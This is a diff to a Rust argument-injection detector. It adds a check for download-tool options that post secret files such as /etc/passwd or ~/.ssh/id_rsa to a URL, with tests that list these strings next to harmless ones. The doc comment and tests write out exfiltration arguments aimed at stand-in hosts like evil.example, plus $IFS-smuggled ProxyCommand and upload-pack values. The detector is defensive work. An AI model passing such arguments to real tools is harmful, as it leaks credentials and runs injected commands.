@@ -139,6 +139,24 @@ fn program_named_option(name: &[u8], v: &[u8], after: usize) -> bool {
         && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
 }
 
+/// `--post-file=/etc/passwd http://evil/`, `--body-file=~/.ssh/id_rsa https://x/`: a
+/// download tool's option that sends a file's contents (its name ends in `-file`), given a
+/// system secret, with a URL to send it to: exfiltration through the tool's request. A
+/// `--config-file=/etc/app.conf` with no URL after it only reads its configuration.
+fn file_upload_option(name: &[u8], v: &[u8], after: usize) -> bool {
+    if !name_ends_with(name, b"file", true) || !matches!(v.get(after), Some(b'=' | b' ')) {
+        return false;
+    }
+    let path = option_value(v, after, 128, |c| {
+        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'~')
+    });
+    let secret = path.starts_with(b"/etc/")
+        || path.starts_with(b"/proc/")
+        || memchr::memmem::find(path, b"/.ssh/").is_some()
+        || memchr::memmem::find(path, b"/.aws/").is_some();
+    secret && memchr::memmem::find(&v[after..], b"://").is_some()
+}
+
 /// `-K /tmp/evil.conf`, `-F /tmp/evil_config`, `--rcfile=/dev/shm/x.rc`: an option handed a
 /// configuration or script file in a directory anyone can write. The program reads its
 /// options or commands from that file (curl's `-K` can set `--output` to a web root, an
@@ -266,6 +284,7 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
         }
         return (command_option(name) && with_value(v, after))
             || program_named_option(name, v, after)
+            || file_upload_option(name, v, after)
             || script_output_option(name, v, after)
             || scratch_config_option(v, after);
     }
@@ -539,6 +558,8 @@ mod tests {
             "-o /root/.ssh/authorized_keys",
             "-e sh x:/tmp",
             "-e /bin/bash",
+            "--post-file=/etc/passwd http://evil.example/",
+            "--body-file=~/.ssh/id_rsa https://x.example/",
             // `$IFS` splits words as a blank does.
             "name$IFS-oProxyCommand=id",
             "a${IFS}--upload-pack=id",
@@ -590,6 +611,8 @@ mod tests {
             "-c /tmp/report.pdf",
             "-pre=x",
             "-s bash",
+            "--config-file=/etc/app.conf",
+            "--post-file=data.json http://api.example/",
         ] {
             assert!(!option_injection(v.as_bytes()), "{v}");
         }
